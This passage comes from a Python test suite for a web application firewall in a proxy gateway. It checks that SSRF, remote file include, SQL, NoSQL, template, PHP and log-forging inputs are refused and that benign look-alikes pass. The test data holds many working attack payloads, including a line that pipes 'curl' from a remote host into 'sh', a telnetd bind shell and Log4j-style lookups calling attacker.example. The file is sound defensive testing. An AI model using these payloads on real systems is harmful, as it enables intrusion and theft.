        assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json")) is None, note


def test_ssrf_reads_every_spelling_of_an_address() -> None:
    assert str(parse_ipv4("0x7f.1")) == "127.0.0.1"
    assert str(parse_ipv4("2130706433")) == "127.0.0.1"
    assert str(parse_ipv4("0177.0.0.01")) == "127.0.0.1"
    assert internal_address("[::ffff:a9fe:a9fe]") == "link-local (cloud metadata)"
    assert internal_address("127.0.0.1.nip.io") == "loopback"
    assert internal_address("192.0.0.192") == "cloud metadata"
    assert internal_address("example.com") is None
    for name in ("printer.local", "git.corp", "nas.home.arpa", "router.lan", "wiki.intranet"):
        assert internal_address(name) == "internal name"  # names only a local resolver answers
    assert internal_address("local.example.com") is None
    assert internal_address("corp.example") is None


def test_ssrf_weighs_a_local_url_mentioned_in_prose_lightly() -> None:
    """A README's `open http://localhost:8080` is not a URL the server fetches; the same URL as the
    value, after `=`, in a Markdown link or at a metadata address keeps its full score."""
    readme = "## Setup\n\nRun `make install`, then start the server and open http://localhost:8080 to see it."
    assert ssrf(readme, None)[0] == 2
    assert ssrf("then open http://192.168.1.1 to reach the router admin page", None)[0] == 2
    for value in (
        "http://localhost:3000/auth/callback",
        "fetch url=http://127.0.0.1/admin for the whole team right now",
        "see [the docs](http://localhost:8080/x) for the whole setup of this thing",
        "please fetch http://169.254.169.254/latest/meta-data now for me ok",
        "please fetch http://0x7f000001/ now for me and the team ok",
        "open http://localhost:8080",  # a URL and a word: not prose
    ):
        assert ssrf(value, None)[0] == 5, value


def test_ssrf_weighs_a_local_url_inside_a_configuration_document_lightly() -> None:
    """A URL is fetched when it is the value; an nginx block, an env file or a log line names local
    services as settings (from the blind sets' false positives). A metadata address, an obfuscated
    one, or a URL opening the document keeps its full score."""
    for document in (
        "location /api/ {\n    proxy_pass http://127.0.0.1:8080;\n}\n",
        "DATABASE_URL=postgres://app:changeme@localhost:5432/app\nREDIS_URL=redis://localhost:6379/0",
        "env:\n  API_URL: ${API_URL:-http://localhost:3000}\n",
    ):
        assert ssrf(document, None)[0] == 2, document
    for value in (
        "location / {\n    proxy_pass http://169.254.169.254/latest/;\n}",
        "upstream {\n    server http://0x7f000001/;\n}",
        "http://127.0.0.1:8080/admin\nthanks",
        "\n  http://10.0.0.5/internal\nthanks",
        "url=http://127.0.0.1/admin",
    ):
        assert ssrf(value, None)[0] == 5, value


def test_ssrf_reads_no_host_in_an_app_link() -> None:
    """Android and iOS send `android-app://` and `ios-app://` Referers, whose authority is an app's
    package name or numeric store id, not an obfuscated address; what the link carries is still read."""
    assert ssrf("ios-app://1234567890/shopapp/products/991?ref=widget", None)[0] == 0
    assert ssrf("android-app://com.google.android.gm/", None)[0] == 0
    assert ssrf("ios-app://1/x?u=http://169.254.169.254/latest", None)[0] == 5


def test_rfi_check_reads_the_parameter_name() -> None:
    include = Target("query.page", "query", "http://x/shell.txt", "http://x/shell.txt")
    plain = Target("query.next", "query", "https://x/", "https://x/")
    assert rfi("http://x/shell.txt", include)[0] == 5
    assert rfi("https://x/", plain)[0] == 0


def test_rfi_reads_names_in_every_spelling_and_urls_as_parsers_do(guard: WAFGuard) -> None:
    """From the fourth unseen set's misses: a camelCase JSON key, a header's name, a plugin's URL, a
    scheme split by a tab (WHATWG parsers drop it), a UNC host that is an IP address."""
    template = Target("body.templateUrl", "json", "https://x/a.tpl", "https://x/a.tpl")
    assert rfi("https://x/a.tpl", template)[0] == 5
    assert rfi("https://x/a.zip", Target("body.plugin_url", "form", "", ""))[0] == 5
    assert rfi("https://x/", Target("body.templated", "json", "", ""))[0] == 0  # a word, not a name part
    header = request(headers=[("x-template-path", "http://attacker.example/tpl/header.tpl")])
    assert verdict_of(guard, header).category == "rfi"
    split = request(path="/modules/loader.php", query="include=ht%09tp%3A%2F%2Fattacker.example%2Fshell.txt")
    assert verdict_of(guard, split).category == "rfi"
    unc = request(method="POST", body='{"t": "\\\\\\\\203.0.113.50\\\\pub\\\\x.php"}', content_type="application/json")
    assert verdict_of(guard, unc).category == "rfi"
    assert verdict_of(guard, request(headers=[("referer", "https://shop.example.com/cart")])) is None


def test_an_escaped_backslash_is_read_before_an_escape_after_it() -> None:
    """`\\\\203` is a backslash pair and `203`, not a backslash and octal 203 (`\\x83`)."""
    assert ("path", "//203.0.113.50/pub/x.php") in views("\\\\203.0.113.50\\pub\\x.php")
    assert views("a\\x3cb")[0] == ("text", "a<b")
    assert views("a\\\\x3cb")[0] == ("text", "a\\\\x3cb")  # an escaped backslash, then plain text
    assert views("ht\ttp://x.example/a.txt")[-1] == ("text", "http://x.example/a.txt")
    assert views("line one\nline two") == [("text", "line one\nline two")]
    # a run of escaped backslashes is no escape at all: no substitution, no callback per pair (a
    # first version called one per pair: 32,000 backslashes took 31 ms instead of 4.5)
    assert _BACKSLASH_ESCAPE.search("\\" * 32_000) is None
    assert _BACKSLASH_ESCAPE.search("\\" * 32_000 + "x41") is None  # an even run: no escape before x41
    assert _BACKSLASH_ESCAPE.search("\\" * 32_001 + "x41") is not None


def test_monitor_mode_records_without_blocking(tmp_path: Any) -> None:
    config = parse_config(
        "upstream: {url: 'http://127.0.0.1:9'}\nroutes: [{path: '/**', methods: ['*']}]\nwaf: {mode: monitor}\n"
    )
    engine = Engine(config)
    ctx = Context("waf-test-000003")

    async def run() -> Any:
        return await engine.pipeline.check(request(query="id=1%27%20or%201%3D1--"), ctx)

    decision = asyncio.run(run())
    assert decision.refusal is None
    assert [(f.guard, f.mode, f.verdict.category) for f in decision.findings] == [("waf", "monitor", "sqli")]


# -- clean at a glance ------------------------------------------------------------------------------

FRAGMENTS = st.sampled_from(
    [
        "it's",
        "O'Brien",
        "1 or 2",
        "select",
        "from",
        "' or '1'='1",
        "<b>",
        "<script>",
        "alert(1)",
        "../",
        "etc/passwd",
        "; cat",
        "|id",
        "$(id)",
        "{{7*7}}",
        "${jndi:ldap://x}",
        "() { :; };",
        "https://example.com/a",
        "http://127.0.0.1/",
        "a@b.c",
        "/*",
        "*/",
        "#",
        "$x()",
        "--",
        "=",
        "&",
        "%27",
        "\\",
        '"',
        "`",
        "union",
        "sleep(5)",
        "wh''oami",
        "c\\at",
        "java.lang.Runtime",
        "__proto__",
        "$ne",
        "*)(uid=*",
        "\r\n",
        "<!ENTITY",
        "on",
        "load=",
        "...",
        "QUFBQUFBQUFBQUFBQUFBQQ==",
        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",  # base64 of <script>alert(1)</script>
        "PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+",  # its `+` is a space in a query
        "'+or+1=1--",  # the SQL view reads each `+` as a space
        "1+1",
        "+1 555 0100",
        "+ADw-script+AD4-",  # UTF-7
        "a\tb",
        "\u003cscript\u003e",  # a backslash escape the full path decodes inside the parsed string
        '"><img src=x onerror=alert(1)>',
        # non-ASCII: letters that read as themselves, and characters that normalise into attacks
        "Kanté Dương",
        "日本語のテキスト",
        "उत्पाद",
        "\uff1cscript\uff1e",  # full-width < and >
        "\uff33\uff25\uff2c\uff25\uff23\uff34",  # full-width SELECT
        "scr\u0130pt",
        "\u2215etc\u2215passwd",  # division slashes
        "\u010d\u010aSet-Cookie: a=b",  # low bytes CR LF
        "\u560d\u560aLocation: x",  # best fit
        "a\u00a0or\u00a01=1",
        "https://medium.com/@jane.doe/p",  # an @ after the path: read whole in a view without a tab
        "http://10.0.0.1/x",
        "[::1]/admin",
        "//evil.example/x",
    ]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    query=st.lists(st.tuples(st.sampled_from(["q", "id", "page"]), st.lists(FRAGMENTS, max_size=4)), max_size=3),
    body=st.dictionaries(
        st.sampled_from(["note", "name", "html", "$where"]), st.lists(FRAGMENTS, max_size=5), max_size=3
    ),
    header=st.lists(FRAGMENTS, max_size=3),
)
def test_clean_at_a_glance_never_hides_a_match(
    guard: WAFGuard, query: list[Any], body: dict[str, list[str]], header: list[str]
) -> None:
    """The quick path may only call a request clean when the value-by-value path finds nothing."""
    query_string = "&".join(f"{name}={' '.join(words)}" for name, words in query)
    data = json.dumps({key: " ".join(words) for key, words in body.items()})
    headers = [("x-note", " ".join(header).replace("\r\n", " "))] if header else []
    req = request("POST", query=query_string, body=data, content_type="application/json", headers=headers)
    if clean_at_a_glance(req, guard.engine, guard._limits, True):
        matches, _ = guard.inspect(req)
        assert matches == []


def test_a_host_no_client_is_served_from_and_a_url_in_a_forwarding_header_are_refused(guard: WAFGuard) -> None:
    """A proxy that routes by Host forwards `Host: 169.254.169.254` to the metadata service; a URL in
    X-Forwarded-For reaches whatever resolves or fetches the client (both from blind sets' misses).
    The hosts a gateway is reached by, and address lists, pass (also at a glance)."""
    for host in ("169.254.169.254", "metadata.google.internal", "[fd00:ec2::254]:80"):
        refused = verdict_of(guard, request(headers=[("host", host)]))
        assert refused is not None
        assert refused.rule == "waf.ssrf-forwarded-host"
    refused = verdict_of(guard, request(headers=[("x-forwarded-for", "http://probe.example.net/shell")]))
    assert refused is not None
    assert refused.rule == "waf.ssrf-forwarding-header-url"
    for headers in (
        [("host", "127.0.0.1:8080")],
        [("host", "api.example.com")],
        [("x-forwarded-for", "203.0.113.5, ::1")],
    ):
        req = request(headers=headers)
        assert verdict_of(guard, req) is None
        assert clean_at_a_glance(req, guard.engine, guard._limits, True)
    assert verdict_of(guard, request(headers=[("x-note", "see http://probe.example.net/shell")])) is None


@pytest.mark.parametrize(
    "key",
    ["2026-12-07T09:00:00Z\n2026-12-07T09:00:01Z ERROR key rotated", "x\r\nSet-Cookie: session=attacker", "a\nINFO ok"],
)
def test_a_line_break_in_a_name_is_read_as_in_a_query_name(guard: WAFGuard, key: str) -> None:
    """No client writes a line break in a JSON key or a form field's name: a forged log line or a
    header after one is refused there as in a query parameter's name."""
    body = json.dumps({key: "1"})
    assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json")) is not None
    form = f"{quote(key)}=1"
    assert verdict_of(guard, request("POST", "/api/x", body=form, content_type="application/x-www-form-urlencoded"))


def test_sqli_reads_each_bracketed_part_of_a_parameter_name(guard: WAFGuard) -> None:
    """`filter[price) OR 1=1--]`: qs, PHP and Rails make each bracketed part a key of its own, which
    a query builder pastes as a column (from the fifth blind set's miss). Plain nested names pass."""
    refused = verdict_of(guard, request(query="page=1&filter%5Bprice)%20OR%201%3D1--%5D=10"))
    assert refused is not None
    assert refused.rule == "waf.sqli-syntax"
    form = "filter%5Bname)%20or%201%3D1--%5D=x"
    assert verdict_of(guard, request("POST", body=form, content_type="application/x-www-form-urlencoded"))
    for query in ("filter%5Bprice%5D%5Bgte%5D=10", "sort%5Bcreated_at%5D=desc", "q%5Bname_cont%5D=o%27brien"):
        assert verdict_of(guard, request(query=query)) is None, query


@pytest.mark.parametrize(
    "value",
    [
        "guest\x1b[1A\x1b[2K\x1b[32m[OK]\x1b[0m admin logged in from 10.0.0.5",  # cursor up, erase line
        "user\x1b]2;pwned\x07\x1b[2J",  # a window title, a cleared screen
        "{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{ e.user.password }}{% endfor %}",
        '{{"/etc/passwd"|file_excerpt(1,30)}}',
        "{if passthru(implode('',['i','d']))}{/if}",
        "${dns:address|attacker.example}",
        "${url:UTF-8:http://attacker.example/t4s}",
        '{{ plugin "/bin/sh" "-c" "id" }}',
        'eval pack("H*","73797374656d2822696422293b")',
        "x' RETURN n UNION MATCH (u:User) RETURN u.password AS name //",
        "x', (SELECT password FROM users LIMIT 1))-- -",
        "The quarterly numbers look fine overall, with a small dip we expected. " * 5 + "$(sleep 10)",
        'order 4411\r\n127.0.0.1 - admin [07/Dec/2026:11:00:00 +0000] "GET /admin/export HTTP/1.1" 200 5120',
        "Payment ok\n[2026-12-07T10:00:00Z] WARN admin password reset for uid=1 by system",
    ],
)
def test_the_thirteenth_blind_sets_techniques_are_refused(guard: WAFGuard, value: str) -> None:
    """Each a technique the thirteenth blind set found missing, in a JSON body (its rows' placement)."""
    body = json.dumps({"note": value})
    assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json")) is not None


@pytest.mark.parametrize(
    "value",
    [
        "\x1b[32mPASS\x1b[0m 12 tests",  # a CI log's colours
        "{% load static %}<img src=\"{% static 'logo.png' %}\">",
        'services:\n  api:\n    command: ["sh", "-c", "npm run migrate && npm start"]\n',
        "The job failed\nERROR: disk full",
        "Build log:\n2026-12-07 10:00:01 INFO start",
        "Robert'); drop-in replacement.docx",
        "it's, (select one) fine",
    ],
)
def test_what_the_thirteenth_sets_techniques_leave_alone(guard: WAFGuard, value: str) -> None:
    body = json.dumps({"note": value})
    assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json")) is None


def test_a_metadata_host_as_a_path_segment_and_an_include_cookie_are_refused(guard: WAFGuard) -> None:
    """`/img-resize/300x200/169.254.169.254/latest/meta-data/`: a resizer or a proxy routed by path
    fetches it. `lang=http://...` as a cookie is PHP's include($_COOKIE['lang']); a cookie that keeps
    the last page visited is a site's own."""
    assert verdict_of(guard, request(path="/img-resize/300x200/169.254.169.254/latest/meta-data/"))
    assert verdict_of(guard, request(path="/api/hosts/10.0.0.1/status")) is None
    assert verdict_of(guard, request(headers=[("cookie", "lang=http://attacker.example/lang/en")]))
    assert verdict_of(guard, request(headers=[("cookie", "last_page=https://shop.example.com/cart?items=3")])) is None


def test_an_equality_operator_alone_changes_nothing_other_operators_do(guard: WAFGuard) -> None:
    """Strapi-style filters name `$eq` on purpose, and it matches what the plain value would (from
    the blind sets' false positives); any other operator keeps its score, in a filter API's
    container too, since `{"filter": {"price": {"$ne": null}}}` is the injection's shape."""
    assert verdict_of(guard, request(query="filters%5Bslug%5D%5B%24eq%5D=how-we-ship")) is None
    assert verdict_of(guard, request(query="filters%5Bcategory%5D%5Bslug%5D%5B%24eq%5D=shoes")) is None
    for query in ("password%5B%24ne%5D=x", "filters%5Bslug%5D%5B%24ne%5D=x", "user%5B%24eq%5D=a&user%5B%24ne%5D=b"):
        assert verdict_of(guard, request(query=query)), query
    body = json.dumps({"filter": {"price": {"$ne": None}}, "limit": 20})
    assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json"))
    body = json.dumps({"filters": {"brand": {"$eq": "Acme"}}})
    assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json")) is None


@pytest.mark.parametrize(
    "snippet",
    [
        "<?php echo htmlspecialchars($title, ENT_QUOTES, 'UTF-8'); ?>",
        "Why does this loop print nothing?\n\n<?php foreach ($posts as $post): ?>\n  <h2><?= e($post->title) ?></h2>"
        "\n<?php endforeach; ?>\n\nThanks!",
        "```php\n<?php $stmt = $pdo->prepare('SELECT * FROM posts WHERE slug = ?');\n$stmt->execute([$slug]);\n```\n",
        # request input read by code that escapes it: how to print a parameter safely
        "```php\n<?php\n$name = $_GET['name'] ?? 'world';\necho 'Hello, ' . htmlspecialchars($name);\n```\n",
        "<?php\n$q = $_GET['q'] ?? '';\necho '<p>Results for ' . htmlspecialchars($q, ENT_QUOTES, 'UTF-8') . '</p>';\n",
        "<?php\nfunction e(string $s): string {\n    return htmlspecialchars($s, ENT_QUOTES, 'UTF-8');\n}\n"
        "echo '<p>' . e($comment) . '</p>';\n",
    ],
)
def test_php_shared_as_code_that_only_presents_its_variables_passes(guard: WAFGuard, snippet: str) -> None:
    """Code pasted in a ticket, a review or a forum post (from the unseen sets' code fields): its tags
    open code that escapes and loops over its own variables."""
    body = json.dumps({"comment": snippet})
    assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json")) is None


@pytest.mark.parametrize(
    "payload",
    [
        "<?php echo htmlspecialchars($title); ?><?php system($_GET['c']); ?>",
        "<?php echo '?>'; system('id'); ?>",  # a `?>` in a string ends no code
        "<?php echo $a;\n```\nid\n```\n",  # backticks in code run a command, fences or not
        "<?php /* ?> */ passthru($cmd);",
        "<?php echo $x; include $page; ?>",
        "<?php $f = $name; $f($arg); ?>",
        "<? echo 'hello'; ?>",  # a probe: a short tag and a literal
        "<?php echo 'vulnerable'; ?>",
        "test<?",
        "<?php echo $_GET['x']; ?>",  # a probe: request input reflected, escaped by nothing
        "<?php $q = $_GET['q']; echo htmlspecialchars($q); passthru($q); ?>",
        # a shell reads what follows the closing tag as it reads the rest
        "<?php echo htmlspecialchars($title); ?>\n; curl -s http://203.0.113.9/x | sh",
    ],
)
def test_php_tags_that_run_more_than_presentation_are_refused(guard: WAFGuard, payload: str) -> None:
    body = json.dumps({"comment": payload})
    assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json")), payload


def test_a_filter_apis_operators_are_read_with_their_field_and_operand(guard: WAFGuard) -> None:
    """Parse's `where=`, Strapi's `filters[price][$lt]` and a JSON `$and` of ranges and tag lists
    take operators on purpose (from the fourteenth blind set's false positives); the same operators
    on a field that decides access, with a probe for an operand (`""`, `null`, `0`, a run of nines,
    a privileged name), or operators that invert or match anything, are still refused."""
    where = {"score": {"$gte": 1552}, "playerName": {"$in": ["Sean Plott", "Jane Doe"]}}
    assert verdict_of(guard, request(query="where=" + quote(json.dumps(where)))) is None
    assert verdict_of(guard, request(query="filters%5Bprice%5D%5B%24lt%5D=100&sort=price")) is None
    assert verdict_of(guard, request(query="filters%5B%24or%5D%5B0%5D%5Bstatus%5D%5B%24eq%5D=published")) is None
    ranges = {"filter": {"$and": [{"tags": {"$in": ["urgent"]}}, {"due": {"$lt": "2026-12-31"}}]}}
    body = json.dumps(ranges)
    assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json")) is None
    for injected in (
        {"password": {"$ne": None}},
        {"username": {"$gt": ""}},
        {"user": {"$in": ["admin", "root"]}},
        {"resetToken": {"$regex": "^"}},
        {"price": {"$lt": 9999999}},
        {"score": {"$gte": 1}},
        {"age": {"$gte": "0"}},
        {"$or": [{}, {"a": "a"}]},
        {"$or": [{"a": 1}, {"b": {"$gt": 0}}]},
        {"status": {"$nin": ["archived"]}},
    ):
        body = json.dumps({"filter": injected})
        assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json")), injected
        assert verdict_of(guard, request(query="where=" + quote(json.dumps(injected)))), injected
    for query in ("user_id%5B%24gt%5D=", "filter%5B%24or%5D%5B0%5D%5Brole%5D=admin", "price%5B%24gt%5D=0",
                  "tags%5B%24nin%5D%5B%5D=x", "apiKey%5B%24lt%5D=500"):  # fmt: skip
        assert verdict_of(guard, request(query=query)), query


@pytest.mark.parametrize(
    "value",
    [
        "H4sIAAAAAAACA1vzloG1uIhBMCuxLFGvtCQzR88jsTjDN7EAAMGIDdMZAAAA",  # gzip, then base64, of a Java object stream
        'readLines(pipe("id"))',
        "doc['password.keyword'].value.startsWith(params.p)",
        "name:foo OR _exists_:password_hash",
        "x'); return redis.call('config','get','*') --",
        "_admin",  # CouchDB's server-admin role
        '"attacker@ms-updates-check.com"@acme-corp.com',
        "@acme-corp.com:attacker@cloud-sync-api.xyz",
        '"victim@example.com" <attacker@ms-updates-check.com>',
        "=?utf-8?b?YXR0YWNrZXJAZmlsZXMtc2hhcmUudG9wPg==?=@acme-corp.com",
        "${base64Decoder:JHtzY3JpcHQ6amF2YXNjcmlwdDpqYXZhLmxhbmcuUnVudGltZS5nZXRSdW50aW1lKCkuZXhlYygnaWQnKX0=}",
        "IF((SELECT MID(password,1,1) FROM users LIMIT 1)=0x61,price,name)",
        "x' OR (profile->>'is_admin')::boolean--",
        "\u02bc OR 1=1--",
        "1=1 OR id",
        "pool.ntp.org;telnetd -l /bin/sh -p 9999",
        "x; Start-Sleep -s 10",
        "a'}) RETURN u.name AS name UNION MATCH (u:User) RETURN u.password AS name //",
    ],
)
def test_the_fourteenth_blind_sets_techniques_are_refused(guard: WAFGuard, value: str) -> None:
    """Each a technique the fourteenth blind set found missing, in a JSON body."""
    body = json.dumps({"v": value})
    assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json")) is not None


def test_the_fourteenth_blind_sets_places_are_read(guard: WAFGuard) -> None:
    """A credential field as a search query's `field`, nginx's alias traversal, and what stays clean:
    a profile page on medium.com, a display name in the sender's own domain, arithmetic in prose."""
    for document in (
        {"x": {"terms": {"field": "password.keyword", "size": 1000}}},
        {"fields": ["password", "api_key"]},
    ):
        refused = verdict_of(
            guard, request("POST", "/api/x", body=json.dumps(document), content_type="application/json")
        )
        assert refused is not None
        assert refused.category == "nosqli"
    assert verdict_of(guard, request(path="/assets../config/settings.py"))
    for value in (
        "https://medium.com/@jane.doe/why-we-moved-to-postgres",
        '"ops@acme.com" <alerts@acme.com>',
        "1 = 1 and 2 = 2 were the first things the teacher wrote on the board.",
        "5 > 3 and 2 < 4, so the order's fine (mostly).",
        "Don\u02bct forget the receipt",
    ):
        body = json.dumps({"v": value})
        assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json")) is None, value
    assert (
        verdict_of(
            guard,
            request("POST", "/api/x", body=json.dumps({"sort": {"field": "price"}}), content_type="application/json"),
        )
        is None
    )


def test_a_json_string_holding_a_nul_leaves_the_glance(guard: WAFGuard) -> None:
    """Parsed, `\\u0000` is a NUL, which in the glance's joined text passed for the separator between
    two strings: the address cut by it was never read cut (found by a blind set's miss)."""
    body = json.dumps({"email": "victim@example.com\x00attacker@evil.example", "note": "hi\n"})
    req = request("POST", "/api/x", body=body, content_type="application/json")
    assert not clean_at_a_glance(req, guard.engine, guard._limits, True)
    refused = verdict_of(guard, req)
    assert refused is not None
    assert refused.rule == "waf.mail-address-cut-by-nul"


@pytest.mark.parametrize(
    ("query", "headers"),
    [
        ("limit=20&order=asc&where=x", []),  # names a SQL reading starts with: settled on the value
        ("q=red+shoes&limit=20", [("user-agent", "python-requests/2.32.3")]),  # a host-and-path shape
        ("", [("user-agent", "curl/8.5.0"), ("x-client", "ios/17.4 (iPhone; build 42)")]),
    ],
)
def test_ordinary_requests_are_clean_at_a_glance(guard: WAFGuard, query: str, headers: list[tuple[str, str]]) -> None:
    """A rule's hit in a header or a query name or value is settled on that value as the full path
    would settle it: a browser or client User-Agent or a `limit` parameter no longer sends every
    request the value-by-value way."""
    req = request(query=query, headers=headers)
    assert clean_at_a_glance(req, guard.engine, guard._limits, True)
    assert guard.inspect(req)[0] == []


@pytest.mark.parametrize(
    "body",
    [
        [{"sku": "SKU-00001", "qty": 2}, {"sku": "SKU-00002", "qty": 1}],  # a bulk endpoint's array
        [[1, 2], [3, 4]],
        ["a", "b"],
    ],
)
def test_a_json_array_body_is_clean_at_a_glance(guard: WAFGuard, body: list[Any]) -> None:
    """A body that opens with `[` is an array, not a value that starts like a bracketed IPv6 host:
    the SSRF rules' bare-host branch needs an address character after the bracket. Every array body
    used to go the value-by-value way (a 1 KB bulk order: 1.1 ms instead of 0.2)."""
    req = request("POST", body=json.dumps(body), content_type="application/json")
    assert clean_at_a_glance(req, guard.engine, guard._limits, True)
    assert guard.inspect(req)[0] == []


def test_hits_in_a_json_body_are_settled_on_their_values(guard: WAFGuard) -> None:
    """A public URL or an apostrophe in a small JSON body is settled on its value, as header and
    query hits are, instead of sending the whole body the value-by-value way."""
    body = {"callback_url": "https://hooks.example.com/orders?sig=abc", "note": "it's fine", "name": "Dương"}
    req = request("POST", body=json.dumps(body, ensure_ascii=False), content_type="application/json")
    assert clean_at_a_glance(req, guard.engine, guard._limits, True)
    assert guard.inspect(req)[0] == []
    body["callback_url"] = "http://169.254.169.254/latest/meta-data/"
    req = request("POST", body=json.dumps(body), content_type="application/json")
    assert not clean_at_a_glance(req, guard.engine, guard._limits, True)


def test_a_line_break_in_a_parsed_json_string_keeps_its_views(guard: WAFGuard) -> None:
    # escaped in the raw body, a real line break once parsed: the full path also reads the URL
    # without it (`https://example.com%2f@evil.example/`, credentials hiding the host behind an
    # encoded slash), so the glance must not pass it
    body = json.dumps({"html": "https://example.com%2f\n@evil.example/"})
    req = request("POST", body=body, content_type="application/json")
    assert guard.inspect(req)[0] != []
    assert not clean_at_a_glance(req, guard.engine, guard._limits, True)


def test_a_tab_in_a_header_keeps_its_views(guard: WAFGuard) -> None:
    # a header's hit is settled on its value; a tab there splits a URL that a view reads whole
    req = request(headers=[("x-note", "a\tbhttps://example.com%2f@evil.example/p")])
    assert guard.inspect(req)[0] != []
    assert not clean_at_a_glance(req, guard.engine, guard._limits, True)


def test_a_tab_inside_a_json_string_is_not_whitespace(guard: WAFGuard) -> None:
    # invalid JSON that a lenient parser reads as a string with a tab goes the full way, where the
    # body is read raw; pretty-printed JSON (tabs and line breaks between tokens) stays clean
    req = request("POST", body='{"u": "a\tbhttps://example.com%2f@evil.example/p"}', content_type="application/json")
    assert not clean_at_a_glance(req, guard.engine, guard._limits, True)
    pretty = '{\n\t"u": "https://docs.example.com/a",\n\t"n": 1\n}'
    pretty_request = request("POST", body=pretty, content_type="application/json")
    assert clean_at_a_glance(pretty_request, guard.engine, guard._limits, True)


def test_a_utf8_charset_parameter_keeps_the_glance(guard: WAFGuard) -> None:
    body = json.dumps({"name": "Dương", "note": "leave at the door"}, ensure_ascii=False)
    utf8 = request("POST", body=body, content_type="application/json; charset=UTF-8")
    assert clean_at_a_glance(utf8, guard.engine, guard._limits, True)
    utf16 = request("POST", body=body.encode("utf-16-le"), content_type="application/json; charset=utf-16le")
    assert not clean_at_a_glance(utf16, guard.engine, guard._limits, True)  # only the full path decodes it


def test_bytes_that_were_not_utf8_go_the_full_way(guard: WAFGuard) -> None:
    # a lone surrogate (surrogateescape's stand-in for an undecodable byte) is not a letter that
    # reads as itself; the glance scans UTF-8 and must not trip on it (the in-process fuzz found it)
    req = request(query="q=\udc80&limit=1")
    assert not clean_at_a_glance(req, guard.engine, guard._limits, True)
    guard.check(req, Context("glance-surrogate"))


def test_a_bracketed_ipv6_host_still_reads_as_one(guard: WAFGuard) -> None:
    # without a scheme too: an application that prepends `http://` fetches its own loopback
    for value in ("[::ffff:127.0.0.1]/admin", "http://[::1]:8080/", "[::1]:8080/admin", "[::1]/"):
        req = request("POST", body=json.dumps({"u": value}), content_type="application/json")
        assert not clean_at_a_glance(req, guard.engine, guard._limits, True)
        assert guard.check(req, Context("glance-ipv6")) is not None


@pytest.mark.parametrize(
    ("credentials", "refused"),
    [
        ("*)(uid=*:x", True),  # an LDAP filter break-out in the user name
        ("*)(|(objectClass=*):x", True),
        ("admin' OR '1'='1:x", True),
        ("*)(uid=*:" + "p" * 5000, True),  # a long password does not hide the user name
        ("alice@example.com:pw", False),
        ("alice:s3cr3t' OR 1=1--", False),  # the password is free text, never read
        ("O'Brien:pw", False),
        ("jean dupont:pw", False),
    ],
)
def test_the_user_name_of_basic_credentials_is_read(guard: WAFGuard, credentials: str, refused: bool) -> None:
    header = ("authorization", "Basic " + base64.b64encode(credentials.encode()).decode())
    req = request(headers=[header])
    verdict = verdict_of(guard, req)
    assert (verdict is not None and verdict.status == 403) is refused
    if refused:  # and the glance does not pass it first
        assert not clean_at_a_glance(req, guard.engine, guard._limits, True)


@pytest.mark.parametrize(
    ("name", "value", "refused"),
    [
        ("x-forwarded-host", "169.254.169.254", True),
        ("x-forwarded-host", "metadata.google.internal", True),
        ("x-host", "[fd00:ec2::254]", True),
        ("x-original-host", "7f000001.a9fea9fe.rebind.example", True),
        ("x-forwarded-host", "shop.example.com", False),
        ("x-forwarded-host", "localhost:3000", False),  # a development proxy in front of a local gateway
        ("x-forwarded-host", "10.0.0.5:8080", False),  # an internal load balancer
        ("x-upstream", "169.254.169.254:80", True),  # no header is ever just that host
    ],
)
def test_host_headers_naming_metadata_are_refused(guard: WAFGuard, name: str, value: str, refused: bool) -> None:
    verdict = verdict_of(guard, request(headers=[(name, value)]))
    assert (verdict is not None and verdict.status == 403) is refused


@pytest.mark.parametrize(
    "query",
    [
        "q=PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+",  # the `+` is a space to the decoder
        "q=+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "q=%20PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ],
)
def test_base64_with_spaces_around_is_not_clean_at_a_glance(guard: WAFGuard, query: str) -> None:
    """The full path strips a value before reading it as base64; the glance must not pass it."""
    req = request(query=query)
    assert not clean_at_a_glance(req, guard.engine, guard._limits, True)
    assert guard.check(req, Context("glance-b64")) is not None


def test_adversarial_inputs_complete(guard: WAFGuard) -> None:
    """Floods of what decoders and matchers work hardest on finish (their time is measured in
    bench/test_waf_bench.py, not asserted here)."""
    size = 30_000
    for body, media in [
        ("'" * size, "text/plain"),
        ("/*" * (size // 2), "text/plain"),
        ("<a " * (size // 3), "text/html"),
        ("[" * (size // 2) + "]" * (size // 2), "application/json"),
        (json.dumps({"a": "\\" * size}), "application/json"),
        ("&#60;" * (size // 5), "application/xml"),
        ("x=" + "../" * (size // 3), "application/x-www-form-urlencoded"),
    ]:
        verdict_of(guard, request("POST", body=body, content_type=media))
    verdict_of(guard, request(query="q=" + "%25" * 10_000))
    verdict_of(guard, request("POST", body="{" * 1_000_000, content_type="application/json"))


# -- through the proxy ------------------------------------------------------------------------------


async def test_the_client_sees_a_generic_refusal(upstream: ThreadedUvicorn) -> None:
    async with running_proxy(upstream.url, waf={"mode": "enforce"}) as proxy, httpx.AsyncClient() as client:
        blocked = await client.get(f"{proxy.url}/items", params={"q": "1' UNION SELECT password FROM users--"})
        passed = await client.get(f"{proxy.url}/items", params={"q": "red shoes"})
    assert blocked.status_code == 403
    assert blocked.headers["content-type"].startswith("application/problem+json")
    problem = blocked.json()
    assert problem["request_id"] == blocked.headers["x-request-id"]
    assert "UNION" not in blocked.text
    assert "password" not in blocked.text
    assert "sqli" not in blocked.text
    assert passed.status_code == 200


def _base64_text_by_the_book(value: str) -> str | None:
